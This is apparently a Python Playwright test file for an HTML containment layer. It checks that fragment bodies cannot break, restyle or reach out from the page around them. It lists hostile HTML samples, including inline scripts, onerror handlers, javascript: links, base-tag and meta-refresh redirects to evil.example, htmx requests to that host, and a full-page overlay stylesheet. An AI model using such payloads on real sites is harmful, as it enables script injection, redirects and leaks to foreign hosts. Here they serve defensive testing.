"""The fault matrix, "what its HTML does", row by row in a real browser."""

import re

import pytest
from playwright.sync_api import Page, Route

from shell.composition.contain import Contained, Refusal
from shell.composition.contain.links import Isolation
from shell.security import header_list
from tests.corpus.hostile.bodies import Body
from tests.support.contain_browser import ISOLATIONS, ORIGIN, STATIC, Judge, page_of, put
from tests.support.lobby import wait_for

HTMX = next((STATIC / "vendor").glob("htmx-*.js"))
TEMPLATE = STATIC.parent / "shell" / "pages" / "templates" / "page.html"
CONFIG = re.search(r'<meta name="htmx-config".*>', TEMPLATE.read_text())[0]  # type: ignore[index]

CLOSE = "</template></fragment-slot></page-layout></main></body></html>"
LEFT_OPEN = {
    "div": "<div><p>in",
    "table": "<table><tr><td>in",
    "select": "<select><option>in",
    "form": '<form method="post" action="/slots/lobby/wallet/a"><input name="q">in',
    "comment": "in<!-- ",
    "textarea": "<textarea>in",
    "title": "<title>in",
    "script": "<script>ran() //",
    "plaintext": "<plaintext>in",
    "style": "<style>* { display: none }",
    "attribute": '<p title="in',
}
ENDS = {"main and body": "in</main></body>out", "template": "in</template>out", "all": f"in{CLOSE}out"}
HEAD = {
    "base": '<base href="https://evil.example/"><a href="x">in</a>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">in',
    "refresh to a script": '<meta http-equiv="refresh" content="0;url=javascript:ran()">in',
}
OVERLAY = """
* { color: rgb(255, 0, 0) !important; display: block !important; position: fixed !important; inset: 0 !important;
    z-index: 2147483647 !important; background: rgb(255, 0, 0) !important; width: 9999px !important; }
:host, :host-context(body), :root, html, body { position: fixed !important; inset: 0 !important;
    opacity: 0.1 !important; z-index: 2147483647 !important; pointer-events: auto !important;
    transform: scale(50) !important; }
::slotted(*) { display: none !important; }
"""
INLINE = {
    "script": "<script>ran()</script>",
    "handler": "<img src=x onerror=ran()>",
    "link": '<a href="javascript:ran()" id="press">in</a>',
    "form": '<form action="javascript:ran()"><button id="press">in</button></form>',
    "frame": '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "hx-on": '<div hx-on:load="ran()" hx-on:click="ran()" id="press">in</div>',
    "hx-get": '<button hx-get="https://evil.example/x" hx-trigger="load, click" id="press">in</button>',
    "hx-post": '<form hx-post="https://evil.example/x" hx-trigger="load, submit"><button id="press">in</button></form>',
    "style": "<style>header, footer { display: none }</style>",
    "style attribute": '<div style="position: fixed; inset: 0; z-index: 9">in</div>',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "foreign form": '<form method="post" action="https://evil.example/"><button id="press">in</button></form>',
    "foreign image": '<img src="https://evil.example/x">',
    "foreign base": '<base href="https://evil.example/"><img src="x">',
}


@pytest.fixture
def judge(page: Page) -> Judge:
    return Judge(page)


def left(bodies: dict[str, str], isolation: Isolation) -> list[Body]:
    """The bodies after containment, without those that are refused."""
    outcomes = {name: put(html, isolation) for name, html in bodies.items()}
    return [Body(name, outcome.html.decode()) for name, outcome in outcomes.items() if isinstance(outcome, Contained)]


# Ids that a sibling has too, or that a body has twice.
IDS = {"ids": "".join(f'<p id="{name}">in</p>' for name in ("slot-one", "slot-three", "main", "notice", "a", "a", "a"))}


def test_nothing_that_a_body_leaves_open_closes_names_or_runs_reaches_the_page_around_it(judge: Judge) -> None:
    """Whatever it leaves open or closes too often, whichever ids it takes, the page around it is intact. Inline scripts
    and styles, handlers and foreign targets are gone, and nothing reaches out."""
    for isolation in ISOLATIONS:
        for body in left(INLINE, isolation):
            assert re.search(r"ran\(|evil|style|javascript", body.html) is None
        assert judge.live(left(LEFT_OPEN | ENDS | HEAD | IDS | INLINE, isolation), isolation) == ""
    assert judge.reached_out == []


def test_same_markup_breaks_a_page_when_it_is_not_contained(judge: Judge) -> None:
    """The row can fail: put in unchanged, most of these bodies break something."""
    for isolation in ISOLATIONS:
        raw = {name: page_of([html], isolation, dressed=True) for name, html in (LEFT_OPEN | ENDS).items()}
        assert len(judge.pages(raw, isolation)) >= 6


def test_plaintext_is_refused() -> None:
    """A body with an element that can not be closed is refused, and the ladder's next rung is shown."""
    assert isinstance(put(LEFT_OPEN["plaintext"], "shadow"), Refusal)


def test_star_style_and_fixed_overlay_stay_in_their_slot(judge: Judge) -> None:
    """A declared stylesheet that hits everything and covers everything changes nothing outside its slot."""
    page = page_of(['<p class="bar">over</p><button>all</button>'], "shadow", dressed=True)
    overlaid = page.replace('<link rel="stylesheet" href="/assets/c">', f"<style>{OVERLAY}</style>")
    assert judge.pages({"overlay": overlaid}, "shadow") == {}


class RawPages:
    """Pages with a body put in unchanged and htmx on it, pressed if that can be; `requested` is of the last."""

    def __init__(self, page: Page, config: str, headers: dict[str, str]) -> None:
        self.page = page
        self.requested: list[str] = []
        self._config, self._headers, self._html = config, headers, ""
        page.add_init_script("window.times = 0; window.ran = () => { top.times += 1 }")
        page.route("**/*", self._answer)

    def open(self, body: str) -> None:
        html = page_of([body], "light", dressed=False)
        html = html.replace("</head>", f'{self._config}<script src="/static/{HTMX.name}"></script></head>', 1)
        own = '<button id="own" hx-get="/own" hx-swap="none">own</button></header>'
        self._html = html.replace("</header>", own, 1)
        self.page.goto("about:blank")  # what the page before requests late is none of this one's
        self.requested.clear()
        self.page.goto(f"{ORIGIN}/")

        def has_started() -> bool:
            """Until htmx has, the test would prove nothing."""
            self.page.locator("#own").dispatch_event("click")
            self.page.wait_for_timeout(50)
            return f"{ORIGIN}/own" in self.requested

        wait_for(has_started)
        if 'id="press"' in html:
            self.page.evaluate("document.getElementById('press').click()")

    def _answer(self, route: Route) -> None:
        self.requested.append(route.request.url)
        if route.request.url == f"{ORIGIN}/":
            route.fulfill(body=self._html, content_type="text/html", headers=self._headers)
        elif route.request.url.startswith(f"{ORIGIN}/static/"):
            route.fulfill(path=HTMX, content_type="text/javascript")
        else:
            route.fulfill(status=404, body="", headers={"access-control-allow-origin": "*"})

    def foreign(self) -> list[str]:
        return [url for url in self.requested if "evil" in url]


def test_inline_code_that_slipped_through_is_inert(page: Page) -> None:
    """With the shell's own headers and htmx settings the same bodies, put in unchanged, run nothing and reach
    nothing."""
    raw = RawPages(page, CONFIG, dict(header_list()))
    for name, body in INLINE.items():
        # The policy allows styles in attributes, since containment writes them from an allow-list; only containment
        # protects here.
        if name == "style attribute":
            continue
        raw.open(body)
        page.wait_for_timeout(100)
        assert (name, raw.foreign(), page.url) == (name, [], f"{ORIGIN}/")
        display = "getComputedStyle(document.querySelector('header')).display"
        assert page.evaluate(f"[window.times, {display}]") == [0, "block"], name
        assert page.evaluate("document.elementFromPoint(20, 20).closest('header') !== null"), name


def test_same_code_works_where_nothing_forbids_it(page: Page) -> None:
    """The row can fail: without those headers and settings the bodies run, or reach another origin."""
    raw = RawPages(page, """<meta name="htmx-config" content='{"selfRequestsOnly": false}'>""", {})
    for name in ("handler", "hx-on", "hx-get", "hx-post"):
        raw.open(INLINE[name])
        wait_for(lambda: raw.foreign() or page.evaluate("window.times") > 0, describe=lambda: raw.requested)
